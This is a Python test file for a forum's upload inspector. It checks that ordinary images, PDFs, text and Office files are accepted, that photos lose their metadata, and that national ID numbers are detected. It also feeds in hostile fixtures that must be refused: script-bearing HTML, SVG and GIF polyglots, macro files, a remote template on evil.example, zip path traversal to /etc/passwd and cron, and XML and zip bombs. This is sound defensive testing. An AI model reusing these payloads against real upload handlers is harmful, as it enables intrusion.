"""What comes under which name, and what is made of it: each file goes through the real child process."""

from __future__ import annotations

import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from forum.attachments.inspecting import Inspected, Refused, inspect
from tests.factories import files

NIK = "1271014107850003"
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def looked_at(tmp_path: Path, name: str, content: bytes) -> Inspected:
    path = tmp_path / "sent"
    path.write_bytes(content)
    return inspect(path, name, tmp_path)


def refused(tmp_path: Path, name: str, content: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        looked_at(tmp_path, name, content)
    return refusal.value.code


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("a.png", files.picture("PNG"), "image/png"),
        ("a.jpg", files.picture("JPEG"), "image/jpeg"),
        ("a.JPEG", files.picture("JPEG"), "image/jpeg"),
        ("a.webp", files.picture("WEBP"), "image/webp"),
        ("a.gif", files.picture("GIF"), "image/png"),
        ("a.pdf", files.pdf(), "application/pdf"),
        ("a.txt", b"Jam layanan: 08.00-15.00\r\n", "text/plain"),
        ("a.csv", "nama;jumlah\r\nRapat «besar»;3".encode("cp1252"), "text/csv"),
        ("a.txt", "Jam layanan".encode("utf-16"), "text/plain"),
        *((f"a.{kind}", files.office(kind), None) for kind in ("docx", "xlsx", "pptx", "odt", "ods", "odp")),
    ],
)
def test_what_people_work_with_is_taken(tmp_path: Path, name: str, content: bytes, media_type: str | None) -> None:
    found = looked_at(tmp_path, name, content)
    assert found.found == ()
    assert media_type in (found.media_type, None)


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.jpg", HTML, "content"),
        ("a.jpg", SVG, "content"),
        ("a.jpg", files.picture("PNG"), "content"),
        ("a.png", files.picture("JPEG"), "content"),
        ("a.svg", SVG, "type"),
        ("a.html", HTML, "type"),
        ("a.exe", b"MZ" + bytes(100), "type"),
        ("a", b"teks", "type"),
        ("gambar.png.exe", files.picture("PNG"), "type"),
        ("a.txt", HTML, "content"),
        ("a.txt", b"\xef\xbb\xbf  " + SVG, "content"),
        ("a.csv", b"a;b\x00c", "content"),
        ("a.txt", b"\x7fELF\x02\x01\x01\x00", "content"),
        ("a.png", b"", "empty"),
        ("a.txt", b"", "empty"),
        ("a.pdf", HTML + files.pdf(), "content"),
        ("a.pdf", b"%PDF-1.7\n<script>alert(1)</script>", "content"),
        ("a.pdf", b"%PDF-1.7\nbukan\n%%EOF", "broken"),
        ("a.pdf", files.pdf(password="rahasia"), "locked"),
        ("a.gif", b"GIF89a/*" + bytes(6) + b"*/=1;alert(1)//", "content"),
        ("a.jpg", files.photo()[:3000], "broken"),
        ("a.png", files.picture("PNG")[:-30], "broken"),
        ("a.docx", files.archive({"a.txt": "bukan"}), "content"),
        ("a.docx", files.office("xlsx"), "content"),
        ("a.ods", files.office("odt"), "content"),
        ("a.docx", files.office("docx")[:-40], "broken"),
        ("a.docx", b"PK\x03\x04" + bytes(40), "broken"),
        ("a.docx", files.office("docx", more={"word/vbaProject.bin": b"x"}), "macros"),
        ("a.xlsx", files.office("xlsx", more={"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
        ("a.odt", files.office("odt", more={"Basic/script-lc.xml": b"<a/>"}), "macros"),
        ("a.docx", files.office("docx", more={"word/embeddings/tool.exe": b"MZ"}), "macros"),
        (
            "a.docx",
            files.office(
                "docx",
                more={
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="x/attachedTemplate" '
                    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                },
            ),
            "macros",
        ),
        ("a.docx", files.office("docx", more={"../../etc/cron.d/x": "jahat"}), "broken"),
        ("a.docx", files.office("docx", more={"/etc/passwd": "jahat"}), "broken"),
    ],
)
def test_what_is_not_what_it_says_is_refused(tmp_path: Path, name: str, content: bytes, code: str) -> None:
    assert refused(tmp_path, name, content) == code


def test_an_xml_bomb_is_refused(tmp_path: Path) -> None:
    laughs = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><d><p>&b;</p></d>'
    bomb = files.office("docx", more={"word/header1.xml": laughs})
    assert refused(tmp_path, "a.docx", bomb) == "broken"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.png", files.png_of(50_000, 50_000), "pixels"),
        ("a.docx", files.office("docx", more={"word/media/a.bmp": bytes(120 << 20)}), "bomb"),
        ("a.docx", files.office("docx", more={f"word/media/{n}": bytes(1 << 20) for n in range(250)}), "bomb"),
        ("a.docx", files.office("docx", more={f"word/{n}.xml": "<a/>" for n in range(5_100)}), "bomb"),
    ],
)
def test_bombs_are_refused_in_two_seconds(tmp_path: Path, name: str, content: bytes, code: str) -> None:
    started = time.monotonic()
    assert refused(tmp_path, name, content) == code
    assert time.monotonic() - started < 4


def test_a_pdf_whose_stream_is_a_bomb_is_refused(tmp_path: Path) -> None:
    assert refused(tmp_path, "a.pdf", files.pdf_bomb()) in ("bomb", "too_complex", "broken")


def test_a_zip_of_zips_is_no_document(tmp_path: Path) -> None:
    inner = files.archive({"0": bytes(4 << 20)})
    for _ in range(4):
        inner = files.archive({f"{n}.zip": inner for n in range(16)})
    assert refused(tmp_path, "a.docx", inner) == "content"


def test_an_entry_that_is_longer_than_the_list_says_is_refused(tmp_path: Path) -> None:
    content = bytearray(files.office("docx", more={"word/media/a.bmp": bytes(5000)}))
    with zipfile.ZipFile(BytesIO(bytes(content))) as made:
        size = made.getinfo("word/media/a.bmp").file_size.to_bytes(4, "little")
    assert refused(tmp_path, "a.docx", bytes(content).replace(size, (10).to_bytes(4, "little"))) == "broken"


def test_a_photo_loses_all_but_its_pixels_and_stands_upright(tmp_path: Path) -> None:
    sent = files.photo((1200, 800), orientation=6)
    assert b"KameraRahasia" in sent
    found = looked_at(tmp_path, "foto.jpg", sent)
    assert found.image is not None
    assert found.thumb is not None
    assert (found.image.width, found.image.height) == (800, 1200)
    assert max(found.thumb.width, found.thumb.height) == 720
    for picture in (found.image, found.thumb):
        content = picture.path.read_bytes()
        assert b"Rahasia" not in content
        assert b"rahasia" not in content
        with Image.open(picture.path) as image:
            assert not image.getexif()
            assert image.size == (picture.width, picture.height)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "CMYK", "I;16"])
def test_every_kind_of_colour_is_kept(tmp_path: Path, mode: str) -> None:
    image = Image.new("RGBA", (30, 30), (200, 30, 30, 128)) if mode == "RGBA" else Image.new("L", (30, 30), 200)
    form = "JPEG" if mode == "CMYK" else "PNG"
    path = tmp_path / "sent"
    (image if mode == "RGBA" else image.convert(mode)).save(path, form)
    found = inspect(path, f"a.{form.lower()}", tmp_path)
    with Image.open(found.path) as kept:
        assert kept.size == (30, 30)
        if mode == "RGBA":
            assert kept.convert("RGBA").getpixel((5, 5)) == (200, 30, 30, 128)


def test_what_hides_behind_a_picture_is_gone(tmp_path: Path) -> None:
    script = b"<script>alert(1)</script>"
    for name, content in (
        ("a.png", files.png_with_text() + script),
        ("a.jpg", files.photo() + files.archive({"virus.exe": "MZ"})),
        ("a.gif", files.picture("GIF") + script),
    ):
        kept = looked_at(tmp_path, name, content).path.read_bytes()
        assert script not in kept
        assert b"Rahasia" not in kept
        assert b"PK\x03\x04" not in kept


def test_a_huge_picture_is_made_smaller(tmp_path: Path) -> None:
    found = looked_at(tmp_path, "a.png", files.picture("PNG", (6000, 2000)))
    assert found.image is not None
    assert (found.image.width, found.image.height) == (2560, 853)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx", "odt", "ods", "odp", "pdf", "txt"])
def test_personal_data_in_a_document_is_recognised(tmp_path: Path, kind: str) -> None:
    text = f"Pemohon dengan NIK {NIK} sudah datang."
    content = {"pdf": files.pdf, "txt": str.encode}.get(kind, lambda said: files.office(kind, said))(text)
    assert looked_at(tmp_path, f"surat.{kind}", content).found == ("nik",)


def test_a_number_that_a_spreadsheet_keeps_as_a_number_is_recognised(tmp_path: Path) -> None:
    sheet = f'<worksheet><row><c r="A1"><v>{NIK}</v></c><c r="B1"><v>1.271014107850003E15</v></c></row></worksheet>'
    content = files.office("xlsx", more={"xl/worksheets/sheet1.xml": sheet})
    assert looked_at(tmp_path, "data.xlsx", content).found == ("nik",)


def test_personal_data_in_the_name_of_a_file_is_recognised(tmp_path: Path) -> None:
    assert looked_at(tmp_path, f"KTP {NIK}.png", files.picture("PNG")).found == ("nik",)
